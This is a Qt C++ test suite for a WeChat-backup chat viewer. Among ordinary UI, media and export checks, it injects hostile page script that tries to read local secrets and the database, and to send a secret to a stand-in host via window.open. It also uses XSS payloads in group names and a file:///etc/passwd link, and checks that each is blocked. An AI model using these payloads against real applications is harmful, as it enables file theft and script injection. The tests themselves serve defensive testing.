#include "ChatFixture.h"
#include "WebTestSupport.h"
#include "ModalTestSupport.h"
#include "app/Application.h"
#include "backup/StoredCopies.h"
#include "chat/ChatSchemes.h"
#include "chat/ChatSession.h"
#include "chat/FormChat.h"
#include "chat/FormChatList.h"
#include "chat/WechatAction.h"
#include "media/MediaDialogs.h"

#include <QApplication>
#include <QComboBox>
#include <QDesktopServices>
#include <QJsonDocument>
#include <QJsonObject>
#include <QListWidget>
#include <QMessageBox>
#include <QPushButton>
#include <QTabWidget>
#include <QToolBar>
#include <QToolButton>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <QtTest>

// Stands in for the desktop's opener (xdg-open, found first on PATH while this lives): takes the
// addresses the program hands to the browser or file manager, and answers with exitCode.
class UrlRecorder final
{
public:
    explicit UrlRecorder(int exitCode = 0) : m_path(qgetenv("PATH"))
    {
        QFile opener(m_dir.filePath(QStringLiteral("xdg-open")));
        if (opener.open(QIODevice::WriteOnly)) {
            opener.write(QStringLiteral("#!/bin/sh\nprintf '%s\\n' \"$1\" >> \"$0.log\"\nexit %1\n")
                             .arg(exitCode)
                             .toUtf8());
            opener.close();
            opener.setPermissions(opener.permissions() | QFile::ExeOwner);
        }
        qputenv("PATH", m_dir.path().toUtf8() + ':' + m_path);
    }
    ~UrlRecorder() { qputenv("PATH", m_path); }

    QList<QUrl> urls() const
    {
        QList<QUrl> out;
        QFile log(m_dir.filePath(QStringLiteral("xdg-open.log")));
        if (log.open(QIODevice::ReadOnly))
            for (const QByteArray& line : log.readAll().split('\n'))
                if (!line.isEmpty())
                    out << QUrl(QString::fromUtf8(line));
        return out;
    }
    void clear() { QFile::remove(m_dir.filePath(QStringLiteral("xdg-open.log"))); }

private:
    QTemporaryDir m_dir;
    QByteArray m_path;
};

static QByteArray readAll(const QString& path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

// Clicks the page's shared link with the mouse, as a user does (script cannot open it).
void clickSharedLink(TFormChat& form)
{
    const QVariantList at =
        runJs(form.webHistory->page(),
              QStringLiteral("(() => { const a = document.querySelector('a[href]');"
                             "a.scrollIntoView(); const r = a.getBoundingClientRect();"
                             "return [r.left + 5, r.top + r.height / 2]; })()"))
            .toList();
    QCOMPARE(at.size(), 2);
    QWidget* surface = form.webHistory->focusProxy();
    QVERIFY(surface);
    QTest::mouseClick(surface, Qt::LeftButton, {},
                      QPoint(int(at[0].toDouble()), int(at[1].toDouble())));
}

class TestChatWindow final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void clickContactShowsPage();
    void navigationRouting_data();
    void navigationRouting();
    void hostileScriptStaysInThePage();
    void navigationPolicy();
    void sharedLinkOpensInTheBrowser();
    void hostileGroupNameStaysText_data();
    void hostileGroupNameStaysText();
    void videoBubbleShowsItsPlayIcon();
    void chooser();
    void shardedConversationShowsItsPictures();
    void longConversationPagesBothWays();

private:
    std::unique_ptr<ChatFixture> m_fx;
    QTemporaryDir m_tmp;
};

void TestChatWindow::initTestCase()
{
    QVERIFY(m_tmp.isValid());
    // The window writes into the platform's temporary folder; keep it inside the test's own.
    qputenv("TMPDIR", m_tmp.path().toUtf8());
    qputenv("PATH", QByteArray(FERROWICK_BINARY_DIR "/src:") + qgetenv("PATH"));
    SampleBackup backup;
    wechat::addWechatData(backup);
    m_fx = std::make_unique<ChatFixture>(backup);
    // The fixture's last account database is the second account's -shm; take the first.
    const QString db = QStringLiteral("Applications/com.tencent.xin/Documents/%1/DB/MM.sqlite")
                           .arg(wechat::accountFolder(1));
    m_fx->dbPath = GetRealFileName(m_fx->backupPath, m_fx->recordDict.value(db));
    m_fx->root = QString(db).remove(QStringLiteral("DB/MM.sqlite"));
}

void TestChatWindow::clickContactShowsPage()
{
    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
    form.InitFriends();
    QCOMPARE(form.windowTitle(), QStringLiteral("Wechat History"));
    QCOMPARE(form.tbcFriend->currentWidget(), form.tabFriend);
    QCOMPARE(form.lstFriends->count(), 3);
    QCOMPARE(form.lstFriends->item(0)->text(), QStringLiteral("Alice(Ally)"));
    QCOMPARE(form.lstFriends->item(1)->text(), QStringLiteral("Bob"));
    QCOMPARE(form.lstFriends->item(2)->text(), QStringLiteral("carol"));
    QCOMPARE(form.lstGroups->count(), 1);
    QCOMPARE(form.lstOthers->count(), 1);
    form.resize(1200, 900);
    form.show();
    QVERIFY(QTest::qWaitForWindowExposed(&form));

    QSignalSpy shown(&form, &TFormChat::pageShown);
    QSignalSpy written(&form, &TFormChat::historyWritten);
    QListWidget* list = form.lstFriends;
    QTest::mouseClick(list->viewport(), Qt::LeftButton, {},
                      list->visualItemRect(list->item(0)).center());
    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
    QCOMPARE(shown.first().first().toBool(), true);
    QCOMPARE(form.webHistory->url(), form.pageUrl());
    QCOMPARE(form.pageUrl().scheme(), QStringLiteral("ferrowick-wechat"));
    QVERIFY(form.tbcFriend->isEnabled() && form.tlbMain->isEnabled());

    QWebEnginePage* page = form.webHistory->page();
    QCOMPARE(runJs(page, QStringLiteral("document.querySelectorAll('div.speech').length")).toInt(),
             12);
    QTRY_VERIFY_WITH_TIMEOUT(
        runJs(page, QStringLiteral(
                        "Array.from(document.images).every(i => i.complete && i.naturalWidth > 0)"))
            .toBool(),
        10000);
    QCOMPARE(runJs(page, QStringLiteral("document.images.length")).toInt(), 3);

    // The page file follows in the background, the same file a whole build writes.
    QTRY_COMPARE_WITH_TIMEOUT(written.count(), 1, 30000);
    QCOMPARE(written.first().first().toString(), form.session().tempFile());
    QVERIFY(form.historyComplete());
    {
        QTemporaryDir other;
        TChatSession whole(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root,
                           other.path());
        whole.InitFriends();
        QVERIFY(whole.buildPage(*whole.friendInfo(form.shownContact()->UsrName), {}));
        QByteArray expected = readAll(whole.tempFile());
        expected.replace(whole.tempPath().toUtf8(), form.session().tempPath().toUtf8());
        QCOMPARE(readAll(form.session().tempFile()), expected);
    }

    // The AMR voice is copied; the SILK voice is decoded when it is first played.
    const QString audio = form.session().tempFolder("Audio");
    QVERIFY(QFileInfo(audio + QStringLiteral("7.amr")).size() > 6);
    QVERIFY(QFileInfo::exists(audio + QStringLiteral("8.silk")));
    QVERIFY(!QFileInfo::exists(audio + QStringLiteral("8.pcm")));
    QString playedVoice;
    form.openVideo = [&playedVoice](const TExportFile& f) { playedVoice = f.srcFile; };
    runJs(page, QStringLiteral("Array.from(document.querySelectorAll('[onclick]')).find(e => "
                               "e.getAttribute('onclick').includes('8.pcm')).click(); true"));
    QTRY_COMPARE_WITH_TIMEOUT(playedVoice, audio + QStringLiteral("8.pcm"), 30000);
    QVERIFY(QFileInfo(audio + QStringLiteral("8.pcm")).size() > 100000);
    form.openVideo = {};

    const QString shot = QStringLiteral(FERROWICK_BINARY_DIR "/chat-window.png");
    QTest::qWait(500);
    QVERIFY(form.grab().save(shot));

    // A shared link goes to the desktop's opener (here a stand-in xdg-open that finds no
    // program), and the user is told that nothing opened it; the page stays.
    UrlRecorder noProgram(4);
    QStringList messages;
    setMessageSink([&messages](const QString& text, bool) { messages << text; });
    clickSharedLink(form);
    QTRY_COMPARE_WITH_TIMEOUT(
        messages,
        QStringList{QStringLiteral("No program is set up to open https://example.com/trip.")},
        10000);
    setMessageSink({});
    QCOMPARE(noProgram.urls(), QList<QUrl>{QUrl("https://example.com/trip")});
    QCOMPARE(form.webHistory->url(), form.pageUrl());

    // A click on a picture reaches the window's navigation handler as image://.
    QString opened;
    form.openImage = [&opened](const TExportFile& f) { opened = f.srcFile; };
    runJs(page, QStringLiteral("document.images[0].click(); true"));
    QTRY_COMPARE_WITH_TIMEOUT(opened, form.session().tempFolder("Image") + QStringLiteral("3.jpg"),
                              10000);
    QCOMPARE(form.webHistory->url(), form.pageUrl());
}

void TestChatWindow::navigationRouting_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<bool>("cancel");
    QTest::addColumn<QString>("image");
    QTest::addColumn<QString>("video");
    QTest::newRow("audio") << "audio://12.pcm" << true << ""
                           << "Audio/12.pcm";
    QTest::newRow("audio slash") << "audio://12.pcm/" << true << ""
                                 << "Audio/12.pcm";
    QTest::newRow("image") << "image://12.jpg" << true << "Image/12.jpg"
                           << "";
    QTest::newRow("video") << "video://3.mp4" << true << ""
                           << "Video/3.mp4";
    QTest::newRow("capital I") << "Image://12.jpg" << false << ""
                               << "";
    QTest::newRow("page file") << "file:///tmp/wechathistory.html" << false << ""
                               << "";
}

void TestChatWindow::navigationRouting()
{
    QFETCH(QString, address);
    QFETCH(bool, cancel);
    QFETCH(QString, image);
    QFETCH(QString, video);
    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
    QString openedImage, openedVideo;
    form.openImage = [&](const TExportFile& f) {
        openedImage = f.srcFile;
        QCOMPARE(f.dstFile, f.srcFile);
    };
    form.openVideo = [&](const TExportFile& f) { openedVideo = f.srcFile; };
    QCOMPARE(form.webHistoryBeforeNavigate(address), cancel);
    QCOMPARE(openedImage, image.isEmpty() ? QString() : form.session().tempPath() + image);
    QCOMPARE(openedVideo, video.isEmpty() ? QString() : form.session().tempPath() + video);
}

// Opens the window on the sample account and shows Alice's conversation (pictures, a video).
static void showAlice(TFormChat& form)
{
    form.InitFriends();
    form.resize(1200, 900);
    form.show();
    QVERIFY(QTest::qWaitForWindowExposed(&form));
    QSignalSpy shown(&form, &TFormChat::pageShown);
    form.lstFriends->setCurrentRow(0);
    form.lstFriendsItemClick(form.lstFriends);
    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
    QVERIFY(shown.first().first().toBool());
    QTRY_VERIFY_WITH_TIMEOUT(
        runJs(form.webHistory->page(),
              QStringLiteral("document.images.length == 3 && Array.from(document.images).every(i "
                             "=> i.complete && i.naturalWidth > 0)"))
            .toBool(),
        10000);
}

// Script that got into the page (by a fault of the page's making) reads no local file, opens
// no window, leaves the page for no other file, and hands nothing to the system's browser.
void TestChatWindow::hostileScriptStaysInThePage()
{
    const QString outside = m_tmp.filePath(QStringLiteral("outside"));
    QVERIFY(QDir().mkpath(outside));
    auto writeFile = [&](const QString& name, const QByteArray& bytes) {
        QFile f(QDir(outside).filePath(name));
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(bytes);
    };
    writeFile(QStringLiteral("secret.txt"), "SECRET-4711");
    writeFile(QStringLiteral("secret.jpg"),
              wechat::jpegImage(40, 30, 0xff0000, QStringLiteral("secret")));
    writeFile(QStringLiteral("other.html"), "<p>OTHER-4712</p>");

    UrlRecorder opened;

    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
    showAlice(form);
    if (QTest::currentTestFailed())
        return;
    QWebEnginePage* page = form.webHistory->page();
    const QUrl pageUrl = form.webHistory->url();
    QCOMPARE(pageUrl, form.pageUrl());

    const auto url = [&](const QString& name) {
        return QUrl::fromLocalFile(QDir(outside).filePath(name)).toString();
    };
    const QString db = QUrl::fromLocalFile(m_fx->dbPath).toString();
    const QString voice =
        QUrl::fromLocalFile(form.session().tempFolder("Audio") + QStringLiteral("7.amr"))
            .toString();
    const QString script =
        QStringLiteral(R"((async () => {
  const r = {};
  const read = async (u) => {
    try { const x = await fetch(u); return 'read ' + (await x.text()).slice(0, 20); }
    catch (e) { return 'blocked'; }
  };
  r.secret = await read('%1');
  r.db = await read('%2');
  r.voice = await read('%3');
  try {
    const x = new XMLHttpRequest(); x.open('GET', '%6', false); x.send();
    r.schemeDb = x.status === 200 ? 'read ' + x.responseText.slice(0, 20) : 'blocked';
  } catch (e) { r.schemeDb = 'blocked'; }
  try {
    const x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();
    r.xhr = 'read ' + x.responseText;
  } catch (e) { r.xhr = 'blocked'; }
  r.img = await new Promise(res => {
    const i = new Image(); i.onload = () => res('loaded'); i.onerror = () => res('blocked');
    i.src = '%4'; document.body.appendChild(i);
  });
  r.frame = await new Promise(res => {
    const f = document.createElement('iframe');
    f.onload = () => {
      let t = '';
      try { t = f.contentDocument.body.innerText; } catch (e) { t = 'opaque'; }
      res('loaded ' + t);
    };
    setTimeout(() => res('none'), 3000);
    f.src = '%5'; document.body.appendChild(f);
  });
  r.open = window.open('%5') ? 'opened' : 'null';
  r.openWeb = window.open('https://example.invalid/?' + r.secret) ? 'opened' : 'null';
  document.body.setAttribute('data-probe', JSON.stringify(r));
})(); true)")
            .arg(url(QStringLiteral("secret.txt")), db, voice, url(QStringLiteral("secret.jpg")),
                 url(QStringLiteral("other.html")),
                 QStringLiteral("ferrowick-wechat://conversation") + m_fx->dbPath);
    QVERIFY(runJs(page, script).toBool());
    QString probe;
    QTRY_VERIFY_WITH_TIMEOUT(
        !(probe = runJs(page, QStringLiteral("document.body.getAttribute('data-probe') || ''"))
                      .toString())
             .isEmpty(),
        15000);
    const QJsonObject r = QJsonDocument::fromJson(probe.toUtf8()).object();
    for (const char* key : {"secret", "db", "voice", "xhr", "img", "schemeDb"})
        QVERIFY2(r.value(QLatin1String(key)).toString() == QLatin1String("blocked"),
                 qPrintable(key + QStringLiteral(": ") + r.value(QLatin1String(key)).toString()));
    QVERIFY2(!r.value(QLatin1String("frame")).toString().contains(QLatin1String("OTHER-4712")),
             qPrintable(probe));
    QCOMPARE(r.value(QLatin1String("open")).toString(), QStringLiteral("null"));
    QCOMPARE(r.value(QLatin1String("openWeb")).toString(), QStringLiteral("null"));

    // Leaving the page, for another file or for the web, goes nowhere.
    for (const QString& target :
         {url(QStringLiteral("other.html")), QStringLiteral("https://example.invalid/?SECRET")}) {
        runJs(page, QStringLiteral("location.href = '%1'; true").arg(target));
        QTest::qWait(1000);
        QCOMPARE(form.webHistory->url(), pageUrl);
    }
    QCOMPARE(runJs(page, QStringLiteral("document.querySelectorAll('div.speech').length")).toInt(),
             12);
    QVERIFY2(opened.urls().isEmpty(), qPrintable(QUrl::toStringList(opened.urls()).join(' ')));
}

// Where the view may go once a page is shown, and which addresses reach the browser.
void TestChatWindow::navigationPolicy()
{
    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
    UrlRecorder opened;
    showAlice(form);
    if (QTest::currentTestFailed())
        return;
    const QUrl page = form.pageUrl();
    const QString thumbPath = form.session().tempFolder("Image") + QStringLiteral("3.pic_thum");
    const QUrl thumb = QUrl::fromLocalFile(thumbPath);
    struct Case
    {
        const char* name;
        QUrl url;
        bool mainFrame;
        bool allowed;
    };
    const Case cases[] = {
        {"the page", page, true, true},
        {"the page at an anchor", QUrl(page.toString() + QStringLiteral("#x")), true, true},
        {"the page in a frame", page, false, false},
        {"a picture of the page, as a page", thumb, true, false},
        {"a picture the page loads, as a page",
         QUrl(QStringLiteral("ferrowick-wechat://conversation") + thumbPath), true, false},
        {"the page file", QUrl::fromLocalFile(form.session().tempFile()), true, false},
        {"another file beside the page",
         QUrl::fromLocalFile(form.session().tempPath() + QStringLiteral("other.html")), true,
         false},
        {"the database", QUrl::fromLocalFile(m_fx->dbPath), true, false},
        {"a web address", QUrl(QStringLiteral("https://example.com/trip")), true, false},
        {"blank content after the first page", QUrl(QStringLiteral("data:text/html,x")), true,
         false},
        {"about:blank", QUrl(QStringLiteral("about:blank")), true, false},
    };
    for (const Case& c : cases)
        QVERIFY2(form.navigationAllowed(c.url, c.mainFrame) == c.allowed, c.name);

    struct Link
    {
        const char* address;
        bool opens;
    };
    // The page's one link is https://example.com/trip.
    const Link links[] = {
        {"https://example.com/trip", true},
        {"https://EXAMPLE.com/./trip", true},
        {"https://example.com/trip?q=SECRET", false},
        {"https://example.com/trip/", false},
        {"http://example.com/trip", false},
        {"https://example.org/", false},
        {"file:///etc/passwd", false},
        {"mailto:someone@example.com", false},
    };
    for (const Link& l : links) {
        opened.clear();
        form.openLink(QUrl(QLatin1String(l.address)));
        // The opener runs on its own; wait for it where it should run, and a while where not.
        if (l.opens)
            QTRY_COMPARE_WITH_TIMEOUT(opened.urls().size(), 1, 10000);
        else
            QTest::qWait(200);
        QVERIFY2(opened.urls().size() == (l.opens ? 1 : 0), l.address);
    }
}

// A click on a shared link, the user's own, opens its address in the browser; the page stays.
void TestChatWindow::sharedLinkOpensInTheBrowser()
{
    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
    UrlRecorder opened;
    showAlice(form);
    if (QTest::currentTestFailed())
        return;
    clickSharedLink(form);
    QTRY_COMPARE_WITH_TIMEOUT(opened.urls(), QList<QUrl>{QUrl("https://example.com/trip")}, 10000);
    QCOMPARE(form.webHistory->url(), form.pageUrl());
}

void TestChatWindow::hostileGroupNameStaysText_data()
{
    QTest::addColumn<QString>("id");
    QTest::addColumn<QString>("name");
    // The id stands for a word of the picture's markup; the name is an attribute list.
    QTest::newRow("id IMG") << "IMG"
                            << "img src=x onerror=document.body.dataset.pwned=1";
    QTest::newRow("id onclick") << "onclick"
                                << "onmouseover=document.body.dataset.pwned=1 onclick";
    QTest::newRow("id style") << "style"
                              << "img src=x onerror=document.body.dataset.pwned=1 style";
}

// A group member whose id is a word of the page's markup and whose name is markup: the page
// shows the name as text, and no script of it runs.
void TestChatWindow::hostileGroupNameStaysText()
{
    QFETCH(QString, id);
    QFETCH(QString, name);
    const QString group = QStringLiteral("888@chatroom");
    wechat::Database db;
    db.friends = {{group, QStringLiteral("Club"), {}, 2}, {id, name, {}, 3}};
    db.chats[group] = {{1000, id + QStringLiteral(":\nlook"), 1, 1, 1},
                       {1001, id + QStringLiteral(":\n<msg><img/></msg>"), 3, 1, 2}};
    ChatFixture fx(
        accountBackup(db, {{mediaPath("Img", group, 2, ".pic_thum"),
                            wechat::jpegImage(60, 40, 0x00ff00, QStringLiteral("t"))},
                           {mediaPath("Img", group, 2, ".pic"),
                            wechat::jpegImage(120, 80, 0x00ff00, QStringLiteral("p"))}}));
    TFormChat form(fx.dbPath, fx.recordDict, fx.backupPath, fx.root);
    form.InitFriends();
    form.resize(1200, 900);
    form.show();
    QVERIFY(QTest::qWaitForWindowExposed(&form));
    QSignalSpy shown(&form, &TFormChat::pageShown);
    QCOMPARE(form.lstGroups->count(), 1);
    form.lstGroups->setCurrentRow(0);
    form.lstFriendsItemClick(form.lstGroups);
    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
    QWebEnginePage* page = form.webHistory->page();
    QTRY_VERIFY_WITH_TIMEOUT(
        runJs(page, QStringLiteral("Array.from(document.images).every(i => i.complete)")).toBool(),
        10000);
    // Give a handler on the page the chance to run, as a mouse over the bubble would.
    runJs(page, QStringLiteral("document.querySelectorAll('*').forEach(e => "
                               "e.dispatchEvent(new MouseEvent('mouseover'))); true"));
    QTest::qWait(300);
    QCOMPARE(runJs(page, QStringLiteral("document.body.dataset.pwned === undefined")).toBool(),
             true);
    QCOMPARE(runJs(page, QStringLiteral("document.querySelectorAll('[onerror], [onmouseover]')."
                                        "length"))
                 .toInt(),
             0);
    QCOMPARE(runJs(page, QStringLiteral("document.images.length")).toInt(), 1);
    const QStringList headers =
        runJs(page, QStringLiteral("Array.from(document.querySelectorAll('div.leftimg'), "
                                   "d => d.textContent.trim())"))
            .toStringList();
    QCOMPARE(headers.size(), 2);
    for (const QString& header : headers)
        QVERIFY2(header.startsWith(name + QStringLiteral("  ")), qPrintable(header));
    QCOMPARE(runJs(page, QStringLiteral("document.querySelector('div.speech').textContent.trim()"))
                 .toString(),
             name + QStringLiteral(":\nlook"));
}

// The video bubble: its thumbnail under a play icon that the play-button rules draw, no stray
// character, and a click on the icon plays the video.
void TestChatWindow::videoBubbleShowsItsPlayIcon()
{
    TFormChat form(m_fx->dbPath, m_fx->recordDict, m_fx->backupPath, m_fx->root);
    showAlice(form);
    if (QTest::currentTestFailed())
        return;
    QWebEnginePage* page = form.webHistory->page();
    const QString probe = runJs(page, QStringLiteral(R"((() => {
  const b = document.querySelector('span.play-button');
  if (!b) return 'no play button';
  b.scrollIntoView({block: 'center'});
  const bubble = b.closest('div.speech');
  const img = bubble.querySelector('img');
  const cs = getComputedStyle(b);
  const br = b.getBoundingClientRect(), ir = img.getBoundingClientRect();
  const x = br.left + br.width / 2, y = br.top + br.height / 2;
  const hit = document.elementFromPoint(x, y);
  return JSON.stringify({width: cs.width, radius: cs.borderTopLeftRadius,
    over: x > ir.left && x < ir.right && y > ir.top && y < ir.bottom,
    onTop: hit === b || b.contains(hit), text: bubble.textContent.trim(),
    thumb: img.complete && img.naturalWidth > 0, x: Math.round(x), y: Math.round(y)});
})())"))
                              .toString();
    const QJsonObject r = QJsonDocument::fromJson(probe.toUtf8()).object();
    QVERIFY2(!r.isEmpty(), qPrintable(probe));
    QCOMPARE(r.value(QLatin1String("width")).toString(), QStringLiteral("20px"));
    QCOMPARE(r.value(QLatin1String("radius")).toString(), QStringLiteral("54px"));
    QVERIFY2(r.value(QLatin1String("over")).toBool(), qPrintable(probe));
    QVERIFY2(r.value(QLatin1String("onTop")).toBool(), qPrintable(probe));
    QVERIFY2(r.value(QLatin1String("thumb")).toBool(), qPrintable(probe));
    QCOMPARE(r.value(QLatin1String("text")).toString(), QString());

    QString played;
    form.openVideo = [&played](const TExportFile& f) { played = f.srcFile; };
    QTest::mouseClick(
        form.webHistory->focusProxy(), Qt::LeftButton, {},
        QPoint(r.value(QLatin1String("x")).toInt(), r.value(QLatin1String("y")).toInt()));
    QTRY_COMPARE_WITH_TIMEOUT(played, form.session().tempFolder("Video") + QStringLiteral("6.mp4"),
                              10000);
}

void TestChatWindow::chooser()
{
    auto answer = [](bool ok, int index) {
        QTimer::singleShot(200, [ok, index] {
            auto* form = qobject_cast<TFormChatList*>(QApplication::activeModalWidget());
            QVERIFY(form);
            QCOMPARE(form->windowTitle(), QStringLiteral("Choose a WeChat account"));
            QCOMPARE(form->cbbUser->count(), 3);
            QCOMPARE(form->cbbUser->itemText(1), QStringLiteral("陈明"));
            form->cbbUser->setCurrentIndex(index);
            (ok ? form->btnOk : form->btnCancel)->click();
        });
    };
    const QStringList names = {QStringLiteral("Sam Lee"), QStringLiteral("陈明"),
                               QStringLiteral("0123abcd")};
    answer(true, 1);
    QCOMPARE(ShowChatListForm(names), 1);
    answer(false, 2);
    QCOMPARE(ShowChatListForm(names), -1);

    // The demo's two accounts go by their owners' nicknames; the choice opens that account.
    QStringList keys, roots;
    for (int account : {1, 2}) {
        const QString db = QStringLiteral("Applications/com.tencent.xin/Documents/%1/DB/MM.sqlite")
                               .arg(wechat::accountFolder(account));
        keys << m_fx->recordDict.value(db);
        roots << QString(db).remove(QStringLiteral("DB/MM.sqlite"));
    }
    QStringList offered;
    QString chosenWindow;
    QTimer chooseSecond;
    connect(&chooseSecond, &QTimer::timeout, [&] {
        for (QWidget* w : QApplication::topLevelWidgets()) {
            if (!w->isVisible())
                continue;
            if (auto* chooser = qobject_cast<TFormChatList*>(w)) {
                for (int i = 0; i < chooser->cbbUser->count(); ++i)
                    offered << chooser->cbbUser->itemText(i);
                chooser->cbbUser->setCurrentIndex(1);
                chooser->btnOk->click();
            } else if (auto* form = qobject_cast<TFormChat*>(w)) {
                chosenWindow = form->lstFriends->count() == 1
                                   ? form->lstFriends->item(0)->text()
                                   : QStringLiteral("%1 friends").arg(form->lstFriends->count());
                form->done(QDialog::Rejected);
            }
        }
    });
    chooseSecond.start(100);
    QString current = keys.at(0), currentRoot = roots.at(0);
    TStoredCopies accountCopies(m_fx->backupPath);
    actWechatExecute(nullptr, keys, roots, current, currentRoot, m_fx->recordDict, accountCopies);
    chooseSecond.stop();
    QCOMPARE(offered, (QStringList{QString::fromUtf8(wechat::kAccountNickname[0]),
                                   QString::fromUtf8(wechat::kAccountNickname[1])}));
    QCOMPARE(chosenWindow, QStringLiteral("Erin W.(Erin)"));
    QCOMPARE(current, keys.at(1));
    QCOMPARE(currentRoot, roots.at(1));

    // One account: the chat window opens directly on it, without the chooser.
    QString opened;
    QTimer closer;
    connect(&closer, &QTimer::timeout, [&opened] {
        for (QWidget* w : QApplication::topLevelWidgets()) {
            if (!w->isVisible())
                continue;
            if (auto* form = qobject_cast<TFormChat*>(w)) {
                opened = QStringLiteral("%1 %2")
                             .arg(form->lstFriends->count())
                             .arg(form->lstGroups->count());
                form->done(QDialog::Rejected);
            } else if (auto* chooser = qobject_cast<TFormChatList*>(w)) {
                opened = QStringLiteral("chooser");
                chooser->done(QDialog::Rejected);
            }
        }
    });
    closer.start(100);
    const QString account = QStringLiteral("Applications/com.tencent.xin/Documents/%1/DB/MM.sqlite")
                                .arg(wechat::accountFolder(1));
    QString single = m_fx->recordDict.value(account),
            singleRoot = QString(account).remove(QStringLiteral("DB/MM.sqlite"));
    TStoredCopies copies(m_fx->backupPath);
    actWechatExecute(nullptr, {single}, {singleRoot}, single, singleRoot, m_fx->recordDict, copies);
    QCOMPARE(opened, QStringLiteral("3 1"));

    // Cancel in the chooser (the closer's) leaves the current account as it was.
    QString dbFile = QStringLiteral("keep"), root = QStringLiteral("keep/");
    actWechatExecute(nullptr, {"a", "b", "c", "d"}, {"ra", "rb", "rc", "rd"}, dbFile, root,
                     m_fx->recordDict, copies);
    QCOMPARE(opened, QStringLiteral("chooser"));
    QCOMPARE(dbFile, QStringLiteral("keep"));
    QCOMPARE(root, QStringLiteral("keep/"));
}

// A current-layout account, opened as the Wechat button opens it: databases through the
// backup's readable copies, media partly in the app-group container.
void TestChatWindow::shardedConversationShowsItsPictures()
{
    SampleBackup backup;
    wechat::addCurrentWechatAccount(backup);
    ChatFixture fx(backup);
    QHash<QString, QString> groupFiles;
    for (const SampleBackup::Entry& e : backup.entries())
        if (e.domain == QLatin1String(wechat::kGroupDomain))
            groupFiles.insert(e.path, SampleBackup::keyOf(e));
    const QString root = QStringLiteral("Applications/com.tencent.xin/Documents/%1/")
                             .arg(wechat::accountFolder(wechat::kCurrentAccount));
    TStoredCopies copies(fx.backupPath);
    TFormChat form(copies.readableDatabase(fx.recordDict.value(root + QStringLiteral("DB/MM.sqlite"))),
                   fx.recordDict, fx.backupPath, root);
    form.setStoredCopyReader([&copies](const QString& Key) { return copies.readable(Key); });
    form.setDatabaseReader([&copies](const QString& Key) { return copies.readableDatabase(Key); });
    form.setGroupFiles(&groupFiles);
    form.InitFriends();
    QCOMPARE(form.lstFriends->count(), 3);
    QCOMPARE(form.lstFriends->item(2)->text(), QStringLiteral("ivy_88"));
    QVERIFY(!form.btnExportFolder->isEnabled() && !form.btnExportCsv->isEnabled());
    form.resize(1200, 900);
    form.show();
    QVERIFY(QTest::qWaitForWindowExposed(&form));

    // Ivy's conversation is only in message_3.sqlite; its picture only in the app-group
    // container; its wxgf picture a notice that offers to save it.
    QSignalSpy shown(&form, &TFormChat::pageShown);
    QListWidget* list = form.lstFriends;
    QTest::mouseClick(list->viewport(), Qt::LeftButton, {},
                      list->visualItemRect(list->item(2)).center());
    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
    QVERIFY(shown.first().first().toBool());
    QWebEnginePage* page = form.webHistory->page();
    QTRY_VERIFY_WITH_TIMEOUT(
        runJs(page, QStringLiteral("document.images.length == 1 && document.images[0].complete "
                                   "&& document.images[0].naturalWidth == 120"))
            .toBool(),
        10000);
    QVERIFY(runJs(page, QStringLiteral("document.body.innerText.includes('Unsupported picture') "
                                       "&& document.body.innerText.includes('Only in the third "
                                       "shard')"))
                .toBool());
    QVERIFY(form.btnExportFolder->isEnabled() && form.btnExportCsv->isEnabled());

    QTemporaryDir saveTo;
    setMediaFolderChooser([&saveTo](QWidget*, const QString&) { return saveTo.path(); });
    QStringList messages;
    setMessageSink([&messages](const QString& text, bool) { messages << text; });
    runJs(page, QStringLiteral("document.querySelector(\"a[onclick*='save://']\").click(); true"));
    QTRY_COMPARE_WITH_TIMEOUT(messages, QStringList{QStringLiteral("Export Image successfully")},
                              10000);
    QCOMPARE(QFile(saveTo.filePath(QStringLiteral("3.wxgf"))).size(),
             qint64(wechat::wxgfImage().size()));

    // The export buttons write the shown conversation into the chosen folder.
    messages.clear();
    form.btnExportCsv->click();
    QCOMPARE(messages, QStringList{QStringLiteral("Export csv successfully")});
    QVERIFY(QFileInfo(saveTo.filePath(QStringLiteral("ivy_88.csv"))).size() > 0);
    messages.clear();
    form.btnExportFolder->click();
    QCOMPARE(messages.size(), 1);
    QVERIFY(QFileInfo(saveTo.filePath(QStringLiteral("ivy_88/media/2.jpg"))).size() > 0);
    setMessageSink({});
    setMediaFolderChooser({});

    // Grace's conversation spans MM.sqlite and message_1.sqlite: both pictures show.
    shown.clear();
    QTest::mouseClick(list->viewport(), Qt::LeftButton, {},
                      list->visualItemRect(list->item(0)).center());
    QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
    QTRY_VERIFY_WITH_TIMEOUT(
        runJs(page, QStringLiteral("document.images.length == 2 && Array.from(document.images)"
                                   ".every(i => i.complete && i.naturalWidth > 0)"))
            .toBool(),
        10000);
    QCOMPARE(runJs(page, QStringLiteral("document.querySelectorAll('div.speech').length")).toInt(),
             6);
    QVERIFY(form.grab().save(QStringLiteral(FERROWICK_BINARY_DIR "/chat-window-current.png")));
}

int main(int argc, char* argv[])
{
    registerChatSchemes();
    QApplication app(argc, argv);
    TestChatWindow test;
    return QTest::qExec(&test, argc, argv);
}
// A conversation longer than the page holds: the newest entries first, older ones as the user
// scrolls up and back down, the page keeping a bounded window of them, and the page file
// written behind it. A picture missing from the backup stops the page file and the page's way
// further back with one message; what was shown stays.
void TestChatWindow::longConversationPagesBothWays()
{
    const QString whole = QStringLiteral("wxid_whole");
    const QString gap = QStringLiteral("wxid_gap");
